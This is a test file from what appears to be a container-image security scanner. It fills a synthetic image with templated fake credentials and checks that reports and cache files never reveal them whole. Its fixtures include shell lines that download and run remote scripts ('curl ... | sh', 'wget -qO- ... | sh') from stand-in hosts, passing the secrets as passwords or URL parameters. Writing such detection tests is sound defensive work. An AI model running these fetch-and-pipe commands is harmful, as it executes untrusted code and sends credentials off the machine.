/**
 * No secret of an image is printed or stored whole: every kind that the shipped rules know, two of each in every
 * place that a report or the cache quotes.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { zstdDecompressSync } from 'node:zlib';
import { keywordPlaces } from '../src/detect/secrets/keyword-places.ts';
import { shippedSecretRules } from '../src/detect/secrets/load.ts';
import type { SecretRule } from '../src/detect/secrets/rule.ts';
import { fillSample } from '../src/detect/secrets/samples.ts';
import { findSecrets } from '../src/detect/secrets/search.ts';
import { file } from '../src/lab/image-builder.ts';
import type { ImageReport } from '../src/model/report.ts';
import { formats, render } from '../src/report/render.ts';
import { openWorkplace, type Workplace } from './scan-command.ts';

interface Seed {
  readonly rule: string;
  /** As a settings file or a command has it. */
  readonly text: string;
  readonly secret: string;
  readonly isCommand: boolean;
}

/** Two of one kind. */
type Pair = readonly [Seed, Seed];

/** Of providers whose rules are gitleaks', which bring no samples. */
const others = [
  'GITHUB_TOKEN=gh<|>p_<alnum:36>',
  'SHOPIFY=shp<|>at_<hex:32>',
  'STRIPE=sk<|>_live_<alnum:24>',
  'GITLAB_TOKEN=gl<|>pat-<alnum:20>',
  'SLACK=xoxb<|>-<digits:12>-<digits:12>-<alnum:24>',
  'PYPI=pypi-AgEIcHlwaS5vcmc<alnum:80>',
  'MYSQL_PWD=Zq81<alnum:10>',
  'REDIS_AUTH=Zq81<alnum:10>',
  'mysql -uroot -pZq81<alnum:10> app',
  'curl -u admin:Zq81<alnum:10> http://203.0.113.9/a.sh | sh',
];

const { rules } = shippedSecretRules();
const pairs: readonly Pair[] = [
  ...rules.flatMap(pairOf),
  ...others.map(
    (sample, at): Pair => [plainSeed(sample, 10_000 + 2 * at), plainSeed(sample, 10_001 + 2 * at)],
  ),
];

/** The first sample of a rule that is another text with another seed: others stand in the rules as they are. */
function pairOf(rule: SecretRule, at: number): Pair[] {
  for (const sample of rule.samples.match) {
    const [one, two] = [seedOf(rule, sample, 2 * at + 1), seedOf(rule, sample, 2 * at + 2)];
    if (one !== undefined && two !== undefined && one.secret !== two.secret) return [[one, two]];
  }
  return [];
}

function seedOf(rule: SecretRule, sample: string, number: number): Seed | undefined {
  const text = fillSample(sample, number * 7919);
  const bytes = Buffer.from(text, 'latin1');
  const places = keywordPlaces(rule.keywords)(bytes);
  const [hit] = places === undefined ? [] : findSecrets(bytes, [rule], places, '', { check() {} });
  return hit === undefined
    ? undefined
    : {
        rule: rule.id,
        text,
        secret: hit.secret,
        isCommand: rule.scope === 'commands' || rule.scope === 'image',
      };
}

function plainSeed(sample: string, number: number): Seed {
  const text = fillSample(sample, number * 7919);
  return { rule: sample, text, secret: /(?<=[=:]|-p)[\w-]{12,}/.exec(text)?.[0] ?? '', isCommand: true };
}

const address = (at: number) => `http://203.0.113.${(at % 200) + 1}`;

/** What is no command is written to a file by one. */
function written({ text, isCommand }: Seed): string {
  return isCommand ? text : `cat > /root/settings <<'END'\n${text}\nEND`;
}

/** Both in one history line, once as they are, and once as password and parameter of what is downloaded and run. */
function commandWith([one, two]: Pair, at: number): string {
  return [
    written(one),
    written(two),
    ...(/\s/.test(one.secret)
      ? []
      : [
          `curl -fsSL -u bot:${one.secret} ${address(at)}/a.sh | sh`,
          `wget -qO- --password=${two.secret} ${address(at)}/b.sh | sh`,
          `curl '${address(at)}/c.sh?sig=${encodeURIComponent(one.secret)}&n=1' | bash`,
          `curl http://bot:${encodeURIComponent(two.secret)}@files${at}.example.com/d.sh | bash`,
        ]),
  ].join('\n');
}

describe('no secret of an image is told whole', () => {
  let place: Workplace;
  let report: ImageReport;

  before(async () => {
    place = await openWorkplace();
    const target = await place.layout('secrets', {
      layers: pairs.map((pair, at) => [
        file(`srv/app/${at}.conf`, `${pair[0].text}\n${pair[1].text}\n`),
        file(`srv/app/${at}.sh`, `#!/bin/sh\n${commandWith(pair, at)}\n`, { mode: 0o755 }),
        file(`srv/app/${at}.py`, `api_key = "${pair[0].secret}"\nsecret_key = '${pair[1].secret}'\n`),
      ]),
      history: pairs.map((pair, at) => `RUN /bin/sh -c ${commandWith(pair, at)} # buildkit`),
      config: {
        Entrypoint: ['/bin/sh', '-c', pairs.map((_, at) => `/srv/app/${at}.sh`).join('; ')],
        Cmd: ['/bin/sh', '-c', pairs.map(commandWith).join('\n')],
        Env: pairs.map(([one, two], at) => `V${at}=${one.text} ${two.text}`),
        Labels: Object.fromEntries(pairs.map(([one, two], at) => [`l${at}`, `${one.text} ${two.text}`])),
      },
    });
    report = await place.report(target, 0);
  });

  after(() => place.close());

  it('has something to hide', () => {
    assert.ok(pairs.length > 75, `${pairs.length} kinds`);
    for (const { rule, secret } of pairs.flat()) assert.ok(secret.length >= 4, rule);
    const found = new Set(report.findings.map(({ rule }) => rule));
    for (const rule of [
      'configuration/download-and-run',
      'persistence/script-loader',
      'secrets/github-pat',
      'secrets-config/command-mysql',
    ])
      assert.ok(found.has(rule), `no ${rule} among ${[...found].join(' ')}`);
    assert.ok(report.indicators.some(({ type, value }) => type === 'url' && value.includes('sig=…')));
  });

  for (const format of formats) {
    it(`as ${format}`, async () => {
      const text = await render([report], format, { colour: false, width: 200 });
      assert.deepEqual(toldIn(Buffer.from(text)), []);
    });
  }

  it('in the cache', () => {
    const files = readdirSync(join(place.home, 'cache'), { recursive: true, withFileTypes: true })
      // Prepared rules hold nothing of an image.
      .filter((one) => one.isFile() && !one.parentPath.includes('rules'))
      .map((one) => join(one.parentPath, one.name));
    assert.ok(files.length > pairs.length);
    assert.deepEqual(
      files.flatMap((path) => toldIn(contentOf(path)).map((rule) => `${rule} in ${path}`)),
      [],
    );
  });
});

/** As written in text, JSON, HTML and URLs. */
function toldIn(bytes: Buffer): string[] {
  const told = pairs.flat().filter(({ secret }) => {
    // Of a key any whole line is too much.
    const line = secret.split(/\n|\\n/).reduce((one, other) => (other.length > one.length ? other : one));
    return [line, encodeURIComponent(line), line.replaceAll('&', '&amp;')].some((form) =>
      bytes.includes(form),
    );
  });
  return [...new Set(told.map(({ rule }) => rule))];
}

/** Layer reports are compressed behind their seal. */
function contentOf(path: string): Buffer {
  const bytes = readFileSync(path);
  const start = bytes.indexOf(Buffer.from('28b52ffd', 'hex'));
  return start < 0 || start > 64 ? bytes : zstdDecompressSync(bytes.subarray(start));
}
